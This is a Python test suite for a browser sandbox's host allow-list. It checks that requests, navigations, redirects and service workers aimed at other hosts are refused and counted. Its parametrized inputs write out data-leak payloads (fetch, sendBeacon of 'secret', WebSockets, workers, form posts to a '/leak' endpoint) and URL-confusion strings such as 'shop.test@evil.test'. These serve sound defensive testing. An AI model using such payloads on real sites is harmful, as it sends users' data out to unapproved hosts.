"""The allow-list: whatever a page tries, a request to another host is refused and counted; what is allowed works."""

import asyncio

import pytest
from browser_pages import PageServer, Reply, act, page, script, until

from turnsmith.envs.browser import OpenWeb
from turnsmith.envs.browser.wall import Wall, host_pattern
from turnsmith.errors import InfraError, UserError
from turnsmith.trace.types import Task

pytestmark = pytest.mark.asyncio(loop_scope="module")

# localhost is another host than 127.0.0.1, and the server listens there: a request that got through would be logged.
ELSEWHERE = "http://localhost:{port}"


async def refused(session, count):
    """Wait until so many requests were refused (they come after the page has loaded)."""
    blocked = session._tab.wall.blocked
    await until(lambda: len(blocked) >= count)
    return blocked


@pytest.mark.parametrize(
    "attempt",
    [
        "<img src={elsewhere}/leak>",
        "<script src={elsewhere}/leak></script>",
        "<link rel=stylesheet href={elsewhere}/leak>",
        "<iframe src={elsewhere}/leak></iframe>",
        "<script>fetch('{elsewhere}/leak', {{mode: 'no-cors'}}).catch(() => 0)</script>",
        "<script>navigator.sendBeacon('{elsewhere}/leak', 'secret')</script>",
        "<script>new WebSocket('ws://localhost:{port}/leak')</script>",
        "<script>new WebSocket('wss://localhost:{port}/leak')</script>",
        "<script>new EventSource('{elsewhere}/leak')</script>",
        "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{elsewhere}/leak')`])))</script>",
        "<script>fetch('https://localhost:{port}/leak').catch(() => 0)</script>",
        "<img src=http://127.0.0.2:{port}/leak>",
        "<img src=http://[::1]:{port}/leak>",
        "<img src=http://elsewhere.test/leak>",
        "<img src=/redirect>",
        "<script>fetch('/redirect').catch(() => 0)</script>",
        "<script>fetch('/allowed').then(() => fetch('{elsewhere}/leak')).catch(() => 0)</script>",
    ],
)
async def test_subresources_of_other_hosts_are_refused_and_counted(session, pages, attempt):
    pages.pages["/redirect"] = Reply("", "302 Found", {"Location": pages.url("/leak", "localhost")})
    pages.pages["/allowed"] = pages.pages["/leak"] = "here"
    pages.log.clear()
    html = "<a href=/>stay</a>" + attempt.format(elsewhere=ELSEWHERE.format(port=pages.port), port=pages.port)
    observation = await session.reset(pages.put(html), 0)
    assert observation.text == '[0]: "stay";'
    blocked = await refused(session, 1)
    assert len(set(blocked)) == 1
    assert not [line for line in pages.log if "/leak" in line]
    step = await session.step(act("scroll", direction="down", target="window"))
    assert step.observation.info["blocked"] == len(blocked)
    assert step.observation.error == ""


@pytest.mark.parametrize(
    "way",
    [
        "<a href={elsewhere}/leak>go</a>",
        "<a href=https://localhost:{port}/leak>go</a>",
        "<a href={elsewhere}/leak target=_blank>go</a>",
        "<button onclick=\"window.open('{elsewhere}/leak')\">go</button>",
        "<button onclick=\"location.href = '{elsewhere}/leak'\">go</button>",
        "<button onclick=\"setTimeout(() => location.replace('{elsewhere}/leak'))\">go</button>",
        "<form action={elsewhere}/leak><button>go</button></form>",
        "<form action={elsewhere}/leak method=post><button>go</button></form>",
        "<form action=https://localhost:{port}/leak method=post><button>go</button></form>",
        "<a href=/redirect>go</a>",
        "<a href=/redirect_to_https>go</a>",
    ],
)
async def test_navigations_to_other_hosts_leave_the_page_as_it_is(session, pages, way):
    pages.pages["/leak"] = "here"
    pages.pages["/redirect"] = Reply("", "302 Found", {"Location": pages.url("/leak", "localhost")})
    pages.pages["/redirect_to_https"] = Reply("", "302 Found", {"Location": f"https://localhost:{pages.port}/leak"})
    html = way.format(elsewhere=ELSEWHERE.format(port=pages.port), port=pages.port)
    before = await session.reset(pages.put(html + "<input value=1 aria-label=kept>"), 0)
    await script(session, "document.querySelector('[aria-label]').value = '2'")
    pages.log.clear()
    step = await session.step(act("click", mark=0))
    assert step.observation.error == (
        "The navigation was blocked: localhost is not among the hosts that this task may reach."
    )
    assert step.observation.text == before.text.replace('"1"', '"2"')
    assert step.info["blocked"] == 1
    assert step.observation.info["blocked"] == 1
    assert not [line for line in pages.log if "/leak" in line]


@pytest.mark.parametrize(
    ("to", "says"), [("away", "localhost is not among the hosts"), ("/loop", "TOO_MANY_REDIRECTS")]
)
async def test_a_first_page_that_sends_us_elsewhere_ends_its_episode_only(session, pages, to, says):
    pages.pages["/loop"] = Reply("", "302 Found", {"Location": pages.url("/", "localhost") if to == "away" else to})
    with pytest.raises(InfraError, match=says) as caught:
        await session.reset(pages.task("/loop"), 0)
    assert caught.value.kind == "start_failed"
    assert (await session.reset(pages.put("<a href=/>fine</a>"), 0)).text == '[0]: "fine";'


@pytest.mark.parametrize("host", ["[::1]", "münchen.localhost", "www.localhost"])
async def test_hosts_are_known_in_every_spelling(session, pages, host):
    server = PageServer()
    if host == "[::1]":
        server._server = await asyncio.start_server(server._serve, "::1", 0)
        server.port = server._server.sockets[0].getsockname()[1]
    else:
        await server.start()
    server.pages["/"] = page("<a href=/next>go</a>")
    server.pages["/next"] = page("<a href=/>there</a>")
    start = f"http://{host.removeprefix('www.')}:{server.port}/"
    if host.startswith("www."):
        server.pages["/"] = lambda head: (
            page("<a href=/next>go</a>") if "Host: www." in head else
            Reply("", "302 Found", {"Location": f"http://www.localhost:{server.port}/"})
        )  # fmt: skip
    try:
        await session.reset(Task("t", "look", "browser", {"start_url": start}), 0)
        step = await session.step(act("click", mark=0))
        assert (step.observation.text, step.observation.info["blocked"]) == ('[0]: "there";', 0)
    finally:
        await server.stop()


@pytest.mark.parametrize(
    "entry",
    ["a;*", "a,b", "127.0.0.0/8", "<local>", "<-loopback>", "*x.test", "", " ", "a b", "1.2.3", "a:80", "-a"],
)
async def test_an_entry_that_means_more_than_it_says_is_refused(entry):
    with pytest.raises(UserError, match="is no host"):
        host_pattern(entry)


@pytest.mark.parametrize(
    ("entry", "pattern"),
    [("MÜNCHEN.example", "xn--mnchen-3ya.example"), ("::1", "[::1]"), ("[::1]", "[::1]"), ("*.A.test", "*.a.test"),
     ("127.0.0.1", "127.0.0.1"), ("my_host", "my_host"), ("*", "*")],
)  # fmt: skip
async def test_entries_are_spelled_as_the_browser_spells_them(entry, pattern):
    assert host_pattern(entry) == pattern


async def test_further_hosts_can_be_allowed(session, pages):
    html = f"<a href={pages.url('/there', 'localhost')}>go</a><img src={pages.url('/picture', '127.0.0.2')}>"
    pages.put(html)
    pages.pages["/there"] = page("<a href=/>there</a>")
    await session.reset(pages.task(allow=["localhost"]), 0)
    step = await session.step(act("click", mark=0))
    assert step.observation.text == '[0]: "there";'
    assert step.observation.info["blocked"] == 1  # 127.0.0.2 is another host


async def test_every_host_can_be_allowed(session, pages):
    pages.put(f"<a href={pages.url('/there', 'localhost')}>go</a>")
    pages.pages["/there"] = page("<a href=/>there</a>")
    await session.reset(pages.task(allow=["*"]), 0)
    assert (await session.step(act("click", mark=0))).observation.text == '[0]: "there";'


async def test_service_workers_cannot_be_installed(session, pages):
    pages.pages["/worker.js"] = Reply("self.onfetch = () => 0", media_type="text/javascript")
    html = "<script>navigator.serviceWorker.register('/worker.js')</script>"
    await session.reset(pages.put(html), 0)
    assert await script(session, "navigator.serviceWorker.getRegistrations().then(all => all.length)") == 0
    assert "GET /worker.js" not in pages.log


async def test_wall_matches_hosts_exactly_or_by_pattern():
    wall = Wall({"shop.test", "*.wiki.test", "::1"})
    allowed = ["http://shop.test:81/x", "https://SHOP.test/", "http://en.wiki.test", "data:text/html,x", "about:blank"]
    refused_ = ["http://shop.test.evil/", "http://myshop.test", "http://wiki.test", "http://shop.test@evil.test/"]
    assert all(wall.allows(url) for url in [*allowed, "http://[::1]:8/"])
    assert not any(wall.allows(url) for url in refused_)


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"start_url": "ftp://x/"},
        {"start_url": "http://["},
        {"start_url": "http://x/", "allow": "y"},
        {"start_url": "http://x/", "allow": 0},
        {"start_url": "http://x/", "allow": ["a;*"]},
    ],
)
async def test_wrong_params_of_a_task_are_a_user_error(params):
    with pytest.raises(UserError, match="task t7"):
        await OpenWeb().visit(Task("t7", "", "browser", params), 0)
